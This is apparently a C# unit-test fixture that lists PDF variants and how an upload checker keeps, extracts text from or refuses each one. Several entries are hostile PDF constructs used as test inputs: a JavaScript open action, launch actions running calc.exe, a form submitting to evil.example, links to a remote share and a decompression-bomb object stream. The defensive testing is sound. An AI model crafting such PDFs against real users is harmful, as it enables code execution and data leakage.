namespace NetworkPortal.UnitTests.Content.Uploads;

/// <summary>The policy for each optional part of typical PDFs.</summary>
internal static class PdfKinds
{
    private const string Scripts = "scripts, media, or a form that sends data";
    private const string Elsewhere = "opens other files or uses content from them";

    public static IReadOnlyList<FileKind> All { get; } =
    [
        new("PDF", () => PdfFile.With()),
        new("protected against changes", PdfFile.Protected),
        new("link", () => Link("<</S/URI/URI(https://example.org)>>")),
        new("link to a page", () => Link("<</S/GoTo/D[3 0 R/Fit]>>")),
        new("next page", () => Link("<</S/Named/N/NextPage>>")),
        new("link to a file beside it", () => Link("<</S/GoToR/F(chapter2.pdf)/D[0/Fit]>>")) { Gone = "chapter2" },
        new("link to a program", () => Link("<</S/URI/URI(file:///C:/Windows/calc.exe)>>")) { Gone = "calc.exe" },
        new(
            "sticky note",
            () =>
                PdfFile.With(
                    "",
                    "/Annots[6 0 R]",
                    "<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/T(Secret Author)/Contents(Kevin is weak)>>"
                )
        )
        {
            Asked = "1 comment",
            Removed = "Kevin",
        },
        new(
            "marked text",
            () =>
                PdfFile.With(
                    "",
                    "/Annots[6 0 R]",
                    "<</Type/Annot/Subtype/Highlight/Rect[0 0 9 9]/QuadPoints[0 0 9 0 0 9 9 9]/T(Secret Author)>>"
                )
        ),
        new(
            "two columns",
            () => PdfFile.Of(Columns("We plan lessons in", "pairs, and look at", "the work together.") + Columns2)
        )
        {
            Searched =
                "We plan lessons in\npairs, and look at\nthe work together.\nEach visit begins at\nthe door, "
                + "and ends\nin a circle.",
        },
        new(
            "broken words",
            () =>
                PdfFile.Of(
                    PdfFile.Show(72, 700, "Teachers speak of collabo-")
                        + PdfFile.Show(72, 686, "ration in the school year 2026-")
                        + PdfFile.Show(72, 672, "27 and after.")
                )
        )
        {
            Searched = "Teachers speak of collaboration in the school year 2026-\n27 and after.",
        },
        new(
            "letters one by one",
            () => PdfFile.Of(Letters("Collective", [722, 556, 222, 222, 556, 500, 278, 222, 500, 556]))
        )
        {
            Searched = "Collective",
        },
        new(
            "letters set apart",
            () =>
                PdfFile.Of(
                    string.Concat(
                        "STUDIO"
                            .Index()
                            .Select(letter => PdfFile.Show(72 + letter.Index * 20, 700, letter.Item.ToString()))
                    )
                )
        )
        {
            Searched = "STUDIO",
        },
        new("scan", PdfFile.Scan) { Searched = "" },
        new("script", () => PdfFile.With("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")) { Refused = Scripts },
        new(
            "program behind a reference",
            () => PdfFile.With("/OpenAction 6 0 R", "", "<</S 7 0 R/F(calc.exe)>>", "/Launch")
        )
        {
            Refused = Scripts,
        },
        new(
            "form that sends itself, behind a reference",
            () =>
                PdfFile.With(
                    "",
                    "/Annots[6 0 R]",
                    "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 7 0 R>>",
                    "<</S 8 0 R/F(https://evil.example)>>",
                    "/SubmitForm"
                )
        )
        {
            Refused = Scripts,
        },
        new(
            "action after an action",
            () => PdfFile.With("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[6 0 R]>>", "", "<</S 7 0 R>>", "/ImportData")
        )
        {
            Refused = Scripts,
        },
        new("unknown action", () => PdfFile.With("/OpenAction<</S/Teleport>>")) { Refused = Scripts },
        new("action when a page opens", () => PdfFile.With("", "/AA<</O 6 0 R>>", "<</S 7 0 R/F(x)>>", "/Launch"))
        {
            Refused = Scripts,
        },
        new("link to another computer", () => Link("<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"))
        {
            Refused = Elsewhere,
        },
        new(
            "link to another computer, behind references",
            () =>
                PdfFile.With(
                    "",
                    "/Annots[6 0 R]",
                    "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 7 0 R>>",
                    "<</S 8 0 R/F 9 0 R/D[0/Fit]>>",
                    "/GoToR",
                    "<</Type/Filespec/FS/URL/F(https://evil.example/x.pdf)>>"
                )
        )
        {
            Refused = Elsewhere,
        },
        new(
            "stream elsewhere",
            () => PdfFile.With("/Extra 6 0 R", "", "<</Length 1/F(//evil/x)>>\nstream\nx\nendstream")
        )
        {
            Refused = Elsewhere,
        },
        new(
            "carried file",
            () =>
                PdfFile.With(
                    "/Names<</EmbeddedFiles<</Names[(x) 6 0 R]>>>>",
                    "",
                    "<</Type/Filespec/F(x)/EF<</F 7 0 R>>>>",
                    "<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream"
                )
        )
        {
            Refused = "other files attached",
        },
        new("arrays without end", PdfFile.Deep) { Refused = "can’t read this" },
        new("packed objects without end", () => PdfFile.Bomb(900, "ObjStm")) { Refused = "too large to process" },
    ];

    private static string Columns2 => Columns("Each visit begins at", "the door, and ends", "in a circle.", 330);

    private static byte[] Link(string action) =>
        PdfFile.With("", "/Annots[6 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 7 0 R>>", action);

    /// <summary>Positions each letter using the widths of Helvetica, in thousandths.</summary>
    private static string Letters(string word, int[] widths) =>
        string.Concat(
            word.Index()
                .Select(letter =>
                    FormattableString.Invariant(
                        $"BT /F1 12 Tf {72 + widths.Take(letter.Index).Sum() * 0.012:F2} 700 Td ({letter.Item}) Tj ET\n"
                    )
                )
        );

    /// <summary>Writes a column line by line, as some programs do.</summary>
    private static string Columns(string first, string second, string third, int x = 72) =>
        PdfFile.Show(x, 700, first) + PdfFile.Show(x, 686, second) + PdfFile.Show(x, 672, third);
}
